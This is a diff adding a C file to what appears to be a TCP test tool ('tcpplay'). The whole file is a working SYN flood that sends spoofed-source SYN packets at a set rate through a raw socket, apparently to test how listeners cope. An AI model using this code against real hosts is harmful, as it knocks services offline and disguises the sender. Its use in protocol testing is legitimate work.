@@ -1,0 +1,120 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * tcpplay: a SYN flood. SYNs from addresses that answer nothing, written to a
+ * raw socket, for scenarios about what a listener makes of them.
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/ip.h>
+#include <netinet/tcp.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "tcpplay.h"
+
+/* The largest segment size in a SYN, as any client says it. */
+#define MSS	1460
+
+struct syn {
+	struct iphdr ip;
+	struct tcphdr tcp;
+	unsigned char mss[4];
+};
+
+/* What the TCP checksum covers beside the segment. */
+struct pseudo {
+	in_addr_t source;
+	in_addr_t destination;
+	unsigned short protocol;
+	unsigned short length;
+};
+
+static unsigned int add_words(unsigned int sum, const void *from, size_t bytes)
+{
+	const unsigned char *p = from;
+
+	for (; bytes; bytes -= 2, p += 2)
+		sum += p[0] << 8 | p[1];
+	return sum;
+}
+
+static unsigned short checksum(const struct syn *syn)
+{
+	struct pseudo pseudo = {
+		.source = syn->ip.saddr,
+		.destination = syn->ip.daddr,
+		.protocol = htons(IPPROTO_TCP),
+		.length = htons(sizeof(syn->tcp) + sizeof(syn->mss)),
+	};
+	unsigned int sum = add_words(0, &pseudo, sizeof(pseudo));
+
+	sum = add_words(sum, &syn->tcp, sizeof(syn->tcp) + sizeof(syn->mss));
+	sum = (sum & 0xffff) + (sum >> 16);
+	return htons(~(sum + (sum >> 16)));
+}
+
+/* The kernel fills in the length and checksum of the IP header. */
+static void fill_in(struct syn *syn, in_addr_t source,
+		    const struct sockaddr_in *to)
+{
+	memset(syn, 0, sizeof(*syn));
+	syn->ip.version = 4;
+	syn->ip.ihl = sizeof(syn->ip) / 4;
+	syn->ip.ttl = 64;
+	syn->ip.protocol = IPPROTO_TCP;
+	syn->ip.saddr = htonl(source);
+	syn->ip.daddr = to->sin_addr.s_addr;
+	syn->tcp.source = htons(1024 + source % 60000);
+	syn->tcp.dest = to->sin_port;
+	syn->tcp.seq = htonl(source * 2654435761U);
+	syn->tcp.doff = (sizeof(syn->tcp) + sizeof(syn->mss)) / 4;
+	syn->tcp.syn = 1;
+	syn->tcp.window = htons(64240);
+	syn->mss[0] = TCPOPT_MAXSEG;
+	syn->mss[1] = TCPOLEN_MAXSEG;
+	syn->mss[2] = MSS >> 8;
+	syn->mss[3] = MSS & 0xff;
+	syn->tcp.check = checksum(syn);
+}
+
+/* Until COUNT / PER_S seconds have passed since the beginning. */
+static void keep_pace(const struct timespec *begin, long long count, long per_s)
+{
+	long long ns = count * 1000000000LL / per_s + begin->tv_nsec;
+	struct timespec until = {
+		.tv_sec = begin->tv_sec + ns / 1000000000LL,
+		.tv_nsec = ns % 1000000000LL,
+	};
+
+	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
+}
+
+/* flood SOURCE ADDR PORT COUNT PER_S: sources count up from SOURCE */
+int do_flood(int n, char **w)
+{
+	union address source, to;
+	struct timespec begin;
+	int i, err, raw;
+	struct syn syn;
+
+	err = parse_address(w[1], "0", &source);
+	if (!err)
+		err = parse_address(w[2], w[3], &to);
+	if (err || source.any.sa_family != AF_INET || to.any.sa_family != AF_INET)
+		return -EINVAL;
+	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	if (raw < 0)
+		return -errno;
+	clock_gettime(CLOCK_MONOTONIC, &begin);
+	for (i = 0; i < atoi(w[4]) && !err; i++) {
+		fill_in(&syn, ntohl(source.v4.sin_addr.s_addr) + i, &to.v4);
+		if (sendto(raw, &syn, sizeof(syn), 0, &to.any, sizeof(to.v4)) < 0)
+			err = -errno;
+		keep_pace(&begin, i + 1, atol(w[5]));
+	}
+	close(raw);
+	return err;
+}
